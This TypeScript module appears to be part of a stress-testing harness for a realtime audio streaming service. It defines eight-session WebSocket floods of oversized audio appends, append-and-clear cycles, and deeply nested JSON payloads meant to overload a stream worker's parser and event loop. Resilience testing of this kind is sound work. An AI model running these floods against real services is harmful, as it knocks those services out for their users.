// Realtime sessions that send more than anybody listens to: the stream worker decodes and parses it
// on the event loop of all streams.
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { storm, type Attack, type Target } from '../attack.ts';
import { openSocket, whileOpen } from '../sockets.ts';

const sessions = 8;
/** 48 s of G.711. */
const append = JSON.stringify({
  type: 'input_audio_buffer.append',
  audio: Buffer.alloc(384_000, 0xff).toString('base64'),
});
const clear = '{"type":"input_audio_buffer.clear"}';
/** Turns end when the client says so, which it does not. */
const manual = JSON.stringify({
  type: 'session.update',
  session: {
    type: 'transcription',
    audio: { input: { format: { type: 'audio/pcmu' }, turn_detection: null } },
  },
});
const depth = 74_000;
const nested = `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
const maxPendingBytes = 1_000_000;

/** Sends the events again and again, as fast as they are read. */
async function flood(
  target: Target,
  signal: AbortSignal,
  { events, pauseMs }: { readonly events: readonly string[]; readonly pauseMs: number },
): Promise<void> {
  const socket = openSocket(target, 'realtime');
  await whileOpen(socket, signal, async () => {
    socket.send(manual);
    while (socket.readyState === WebSocket.OPEN) {
      for (const event of events) socket.send(event);
      do await sleep(pauseMs);
      while (socket.bufferedAmount > maxPendingBytes);
    }
  });
}

export const realtimeAttacks: readonly Attack[] = [
  {
    name: 'full-turns',
    does: 'Realtime appends of 48 s to a turn that is full, eight sessions',
    victim: 'stream',
    run: (target, signal) =>
      storm(sessions, signal, () => flood(target, signal, { events: [append], pauseMs: 1 })),
  },
  {
    name: 'cleared-turns',
    does: 'Realtime appends of 48 s that are cleared, eight sessions',
    victim: 'stream',
    run: (target, signal) =>
      storm(sessions, signal, () =>
        flood(target, signal, { events: [append, clear], pauseMs: 20 }),
      ),
  },
  {
    name: 'nested-events',
    does: 'Realtime events of half a megabyte of brackets, eight sessions',
    victim: 'stream',
    run: (target, signal) =>
      storm(sessions, signal, () => flood(target, signal, { events: [nested], pauseMs: 40 })),
  },
];
